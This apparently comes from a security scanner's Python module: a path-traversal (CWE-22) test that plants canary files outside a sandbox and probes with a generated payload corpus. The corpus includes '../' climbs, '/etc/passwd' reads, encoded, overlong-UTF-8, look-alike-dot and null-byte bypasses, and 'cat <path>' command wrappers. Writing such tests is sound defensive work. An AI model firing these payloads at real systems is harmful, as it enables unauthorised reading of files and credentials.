"""T-TRAV-001: path traversal out of a surface's sandbox (CWE-22)."""

from __future__ import annotations

from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from attacks.base import AttackContext, AttackSpec, Target, register, take
from attacks.mutate import mutations
from toolkit.model import Finding, Severity

PASSWD_MARK = "root:x:0:0:"  # pragma: allowlist secret
UP = "../"


@dataclass(frozen=True)
class Probe:
    path: str
    tokens: tuple[str, ...]
    why: str


@dataclass
class Plant:
    """Canaries outside the sandbox: its parent, a sibling sharing its name as prefix, a far folder."""

    near_name: str
    near_content: str
    sibling: str | None
    sibling_content: str
    far: Path
    far_content: str
    sandbox: Path | None


def plant(ctx: AttackContext, sandbox: Path | None) -> Plant:
    far, far_content = ctx.canaries.file(ctx.canaries.work / "far")
    near_name, near_content, sibling, sibling_content = far.name, far_content, None, ""
    if sandbox is not None and sandbox.parent.is_dir():
        near, near_content = ctx.canaries.file(sandbox.parent)
        near_name = near.name
        sib_dir = Path(str(sandbox) + "_x")
        if ctx.canaries.folder(sib_dir) is not None or not sib_dir.exists():
            sib, sibling_content = ctx.canaries.file(sib_dir)
            sibling = f"{sib_dir.name}/{sib.name}"
    return Plant(near_name, near_content, sibling, sibling_content, far, far_content, sandbox)


def corpus(p: Plant) -> Iterator[Probe]:
    """Deterministic corpus, most telling first."""
    n, c = p.near_name, (p.near_content,)
    yield Probe(UP + n, c, "relative, depth 1")
    yield Probe("./" + UP + n, c, "dot-prefixed")
    yield Probe("a/" + UP * 2 + n, c, "descend then climb")
    if p.sibling:
        yield Probe(UP + p.sibling, (p.sibling_content,), "sibling folder sharing the sandbox prefix")
        if p.sandbox is not None:
            yield Probe(str(p.sandbox) + "_x/" + p.sibling.split("/", 1)[1], (p.sibling_content,),
                        "absolute path into the prefix-sharing sibling")
    yield Probe(str(p.far), (p.far_content,), "absolute path")
    yield Probe(UP * 12 + str(p.far).lstrip("/"), (p.far_content,), "climb to / then down, depth 12")
    yield Probe("/etc/passwd", (PASSWD_MARK,), "absolute system file")
    yield Probe(UP * 10 + "etc/passwd", (PASSWD_MARK,), "relative system file")
    yield Probe("..\\" + n, c, "backslash separator")
    yield Probe("..%2f" + n, c, "URL-encoded slash")
    yield Probe("%2e%2e%2f" + n, c, "URL-encoded dots and slash")
    yield Probe("..%252f" + n, c, "double URL-encoding")
    yield Probe("..%c0%af" + n, c, "overlong UTF-8 slash")
    yield Probe("\u2025/" + n, c, "NFKC look-alike two-dot leader")
    yield Probe("\uff0e\uff0e/" + n, c, "fullwidth dots")
    yield Probe(UP + n + ".", c, "trailing dot")
    yield Probe(UP + n + " ", c, "trailing space")
    yield Probe('"' + UP + n + '"', c, "quoted")
    yield Probe(UP + n + "\x00.txt", c, "null byte")
    yield Probe("....//" + n, c, "nested dots survive one strip of ../")
    yield Probe("..", (n,), "parent folder listing")
    yield Probe(UP, (n,), "parent folder listing, trailing slash")
    yield Probe(str(p.far.parent), (p.far.name,), "absolute folder listing")


@register
class PathTraversal:
    """Path traversal (CWE-22).

    Asks a path surface (or an allowed reading command on an argv/command surface) for
    canary files planted outside its sandbox: in the sandbox's parent, in a sibling folder
    that shares the sandbox's name as a prefix (``<sandbox>_x``), and in a far temporary
    folder, by relative paths at several depths, absolute paths, URL, double and
    overlong-UTF-8 encodings, backslashes, NFKC look-alikes, trailing dot, space or
    quote, and null bytes. A finding needs the canary's *content* (or, for a folder, a
    canary's name) in the reply and absent from the baseline: it is computed, never
    echoed from the payload. Payload bytes reach the server as generated.
    """

    spec = AttackSpec("T-TRAV-001", "traversal", "Path traversal out of the sandbox", 22,
                      Severity.HIGH, ("path", "argv", "command"))

    def run(self, ctx: AttackContext, target: Target) -> Iterable[Finding]:
        cls = _class_for(target)
        if cls is None:
            return
        p = plant(ctx, target.surface.sandbox)
        probes = list(corpus(p))
        if ctx.budget == "deep":
            probes += [Probe(m, pr.tokens, f"mutation of: {pr.why}")
                       for pr in probes[:6] for m in mutations(pr.path, ctx.seed, 6)]
        reader = _reader(ctx)
        for probe in take(probes, ctx.limit):
            _, found = ctx.probe(self.spec, target, cls, _wrap(cls, probe.path, reader), probe.tokens,
                                 probe.why, "canary")
            if found:
                yield found


def _class_for(target: Target) -> str | None:
    for cls in ("path", "argv", "command"):
        if cls in target.surface.classes:
            return cls
    return None


def _reader(ctx: AttackContext) -> str:
    allowed = ctx.contract.raw.get("policy", {}).get("allowed_commands", [])
    for cmd in ("cat", "head", "tail", "less", "more", "type"):
        if cmd in allowed:
            return cmd
    return "cat"


def _wrap(cls: str, path: str, reader: str) -> Any:
    if cls == "argv":
        return [reader, path]
    if cls == "command":
        return f"{reader} {path}"
    return path
